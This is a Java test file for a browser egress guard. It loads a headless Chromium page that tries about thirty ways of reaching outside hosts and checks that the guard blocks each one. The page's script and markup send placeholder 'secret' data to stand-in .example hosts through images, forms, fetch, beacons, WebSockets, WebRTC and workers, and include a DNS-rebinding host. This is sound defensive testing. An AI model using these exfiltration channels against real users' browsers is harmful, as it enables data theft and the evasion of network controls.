package dev.cairn.browser.guard;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.cairn.agent.origin.WebOrigin;
import dev.cairn.browser.SharedBrowser;
import dev.cairn.engine.CairnException;
import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.CleanupMode;
import org.junit.jupiter.api.io.TempDir;

/**
 * A real browser, a page that tries every way out, and a server that must hear of none of them. Each way leads to a host of its own, so
 * that the guard's count tells which came there.
 */
class ChromiumGuardTest {
    private static final Duration PATIENCE = Duration.ofSeconds(60);

    /** The ways of {@link #attacks}, by the host of each. */
    private static final List<String> EXPECTED = List.of(
            "style.out.example",
            "preconnect.out.example",
            "preload.out.example",
            "font.out.example",
            "background.out.example",
            "image.out.example",
            "media.out.example",
            "object.out.example",
            "frame.out.example",
            "redirect.out.example",
            "refresh.out.example",
            "location.out.example",
            "form.out.example",
            "ping.out.example",
            "script.out.example",
            "fetch.out.example",
            "post.out.example",
            "tls.out.example",
            "fetchredirect.out.example",
            "beacon.out.example",
            "socket.out.example",
            "tlssocket.out.example",
            "events.out.example",
            "popup.out.example",
            "worker.out.example",
            "shared.out.example",
            "xhr.out.example",
            "late.out.example",
            "module.out.example",
            "turncoat.example");

    @TempDir(cleanup = CleanupMode.NEVER) // the browser may still be writing to its profile
    Path folder;

    private final CountingSite app = CountingSite.start();
    private final CountingSite other = CountingSite.start();
    private final AtomicInteger looks = new AtomicInteger();
    private final BlockingQueue<GuardRefusal> refused = new LinkedBlockingQueue<>();

    @BeforeEach
    void folders() throws IOException {
        Files.createDirectories(folder);
    }

    @AfterEach
    void close() {
        app.close();
        other.close();
    }

    /** Every name is this machine's, but one, which is somebody's on the internet when it is looked at first. */
    private List<InetAddress> resolve(String host) throws java.net.UnknownHostException {
        if (host.equals("turncoat.example") && looks.getAndIncrement() == 0) {
            return List.of(InetAddress.getByName("192.88.99.7"));
        }
        return host.endsWith(".example")
                ? List.of(InetAddress.getByAddress(new byte[] {127, 0, 0, 1}))
                : NameResolver.SYSTEM.resolve(host);
    }

    private BrowserGuard guard(String... own) {
        WebOrigin[] origins = java.util.stream.Stream.of(own)
                .map(address -> WebOrigin.of(address).orElseThrow())
                .toArray(WebOrigin[]::new);
        return BrowserGuard.start(GuardPolicy.only(origins), this::resolve, GuardLimits.DEFAULT, refused::add);
    }

    private String at(String host) {
        return "http://" + host + ":" + other.port();
    }

    /** What a page can do by itself to reach another origin, each to {@code NAME.out.example}. */
    private String attacks(int udp) {
        return """
                <!doctype html><title>app</title>
                <link rel="stylesheet" href="http://style.out.example:PORT/s.css">
                <link rel="preconnect" href="https://preconnect.out.example:PORT">
                <link rel="preload" as="script" href="http://preload.out.example:PORT/p.js">
                <link rel="prefetch" href="http://prefetch.out.example:PORT/p">
                <link rel="dns-prefetch" href="//dns.out.example:PORT/">
                <link rel="icon" href="http://icon.out.example:PORT/i.png">
                <style>@font-face { font-family: f; src: url(http://font.out.example:PORT/f.woff2) } b { font-family: f }
                  i { background: url(http://background.out.example:PORT/b.png) }</style>
                <b>text</b><i>text</i>
                <img src="http://image.out.example:PORT/i.png?q=secret">
                <video src="http://media.out.example:PORT/v.mp4" autoplay></video>
                <object data="http://object.out.example:PORT/o"></object>
                <iframe src="http://frame.out.example:PORT/f"></iframe>
                <iframe src="/redirect"></iframe>
                <iframe src="/refresh"></iframe>
                <iframe src="/sandboxed"></iframe>
                <iframe name="posted"></iframe>
                <form id="post" method="post" target="posted" action="http://form.out.example:PORT/p"><input name="a" value="secret"></form>
                <a id="ping" href="#here" ping="http://ping.out.example:PORT/p">x</a>
                <script src="http://script.out.example:PORT/s.js"></script>
                <script>
                  document.getElementById('post').submit();
                  document.getElementById('ping').click();
                  const tries = [
                    () => fetch('http://fetch.out.example:PORT/f', {mode: 'no-cors'}),
                    () => fetch('http://post.out.example:PORT/f', {mode: 'no-cors', method: 'POST', body: 'secret'}),
                    () => fetch('https://tls.out.example:PORT/f', {mode: 'no-cors'}),
                    () => fetch('http://[::1]:PORT/six', {mode: 'no-cors'}),
                    () => fetch('http://127.0.0.1:PORT/four', {mode: 'no-cors'}),
                    () => fetch('http://localhost:PORT/name', {mode: 'no-cors'}),
                    () => fetch('/redirect-fetch', {mode: 'no-cors'}),
                    () => fetch('http://turncoat.example:PORT/rebound', {mode: 'no-cors'}),
                    () => navigator.sendBeacon('http://beacon.out.example:PORT/b', 'secret'),
                    () => new WebSocket('ws://socket.out.example:PORT/s'),
                    () => new WebSocket('wss://tlssocket.out.example:PORT/s'),
                    () => new EventSource('http://events.out.example:PORT/e'),
                    () => window.open('http://popup.out.example:PORT/p'),
                    () => new Worker('/worker.js'),
                    () => new SharedWorker('/shared.js'),
                    () => { const x = new XMLHttpRequest(); x.open('GET', 'http://xhr.out.example:PORT/x'); x.send(); },
                    () => { new Image().src = 'http://late.out.example:PORT/i'; },
                    () => import('http://module.out.example:PORT/m.js'),
                    () => window.WebTransport && new WebTransport('https://transport.out.example:PORT/t').ready,
                    () => { const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}, {urls: 'turn:turn.out.example:PORT?transport=tcp', username: 'a', credential: 'b'}]});
                            peer.createDataChannel('x'); return peer.createOffer().then(o => peer.setLocalDescription(o)); },
                  ];
                  for (const go of tries) { try { Promise.resolve(go()).catch(() => 0); } catch (e) { } }
                  onload = () => setTimeout(() => { fetch('/done'); }, 1500);
                </script>
                """.replace("PORT", "" + other.port()).replace("UDP", "" + udp);
    }

    private void serveTheApp(int udp) {
        app.page("/", attacks(udp))
                .redirect("/redirect", at("redirect.out.example") + "/r")
                .redirect("/redirect-fetch", at("fetchredirect.out.example") + "/r")
                .page("/refresh", "<meta http-equiv=refresh content='0;url=" + at("refresh.out.example") + "/'>")
                .page("/sandboxed", "<script>location = '" + at("location.out.example") + "/'</script>")
                .page("/worker.js", "fetch('" + at("worker.out.example") + "/w', {mode: 'no-cors'}).catch(() => 0)")
                .page("/shared.js", "fetch('" + at("shared.out.example") + "/w', {mode: 'no-cors'}).catch(() => 0)");
    }

    @Test
    void noWayOutOfAPagePassesTheGuard() throws Exception {
        String start = "http://app.example:" + app.port();
        try (DatagramSocket udp = new DatagramSocket(new InetSocketAddress("127.0.0.1", 0));
                BrowserGuard guard = guard(start, "http://turncoat.example:" + other.port())) {
            serveTheApp(udp.getLocalPort());
            List<String> packets = new ArrayList<>();
            Thread.ofVirtual().start(() -> {
                try {
                    udp.receive(new DatagramPacket(new byte[2_048], 2_048));
                    packets.add("packet");
                } catch (IOException e) {
                    // closed: nothing came
                }
            });
            Set<String> expected = new TreeSet<>(EXPECTED);
            if (SharedBrowser.isFetched()) {
                expected.remove("preconnect.out.example"); // one without windows connects to nobody before it asks
            }
            try (HeadlessChromium browser = HeadlessChromium.open(start + "/", guard.switches(), folder)) {
                while (!expected.isEmpty()) {
                    GuardRefusal next = Optional.ofNullable(refused.poll(PATIENCE.toSeconds(), TimeUnit.SECONDS))
                            .orElseThrow(() -> new AssertionError("these never came to the guard: " + expected));
                    expected.remove(next.origin().host());
                }
                assertThat(app.await("/done", (int) PATIENCE.toSeconds())).isTrue();
            }
            assertThat(other.arrived()).isEmpty();
            assertThat(packets).isEmpty();
            assertThat(guard.refusals())
                    .filteredOn(refusal -> refusal.origin().host().equals("turncoat.example"))
                    .allMatch(refusal -> refusal.reason() == GuardRefusal.Reason.PRIVATE_ADDRESS);
        }
    }

    @Test
    void theProofHoldsWithTheSwitchesAndFailsWithoutOneOfThem() {
        try (BrowserGuard guard = guard("http://app.example:" + app.port())) {
            assertThatCode(() -> prove(guard, guard.switches(), "all", PATIENCE))
                    .doesNotThrowAnyException();
            assertThat(guard.refusals())
                    .as("the browser's own calls are refused, the proof's tries are not")
                    .noneMatch(refusal -> refusal.origin().host().matches("127\\.0\\.0\\.1|localhost|\\[::1]"));
            assertThatThrownBy(() -> prove(guard, without(guard, "--proxy-bypass-list"), "bypass", PATIENCE))
                    .isInstanceOf(CairnException.class)
                    .hasMessageContaining("passes the guard by: a connection");
            assertThatThrownBy(() -> prove(guard, without(guard, "webrtc"), "webrtc", PATIENCE))
                    .hasMessageContaining("passes the guard by: a packet");
        }
    }

    @Test
    void theProofFailsForABrowserThatDoesNotUseTheGuard() {
        try (BrowserGuard guard = guard("http://app.example:" + app.port())) {
            assertThatThrownBy(() -> prove(guard, without(guard, "--proxy-"), "none", Duration.ofSeconds(2)))
                    .hasMessageContaining("did not show that it passes the guard");
        }
    }

    private static List<String> without(BrowserGuard guard, String part) {
        return guard.switches().stream()
                .filter(option -> !option.contains(part))
                .toList();
    }

    private void prove(BrowserGuard guard, List<String> switches, String name, Duration patience) throws IOException {
        Path profile = Files.createDirectories(folder.resolve(name));
        try (GuardProof proof = guard.proof();
                HeadlessChromium browser = HeadlessChromium.open(proof.address(), switches, profile)) {
            proof.await(patience);
        }
    }
}
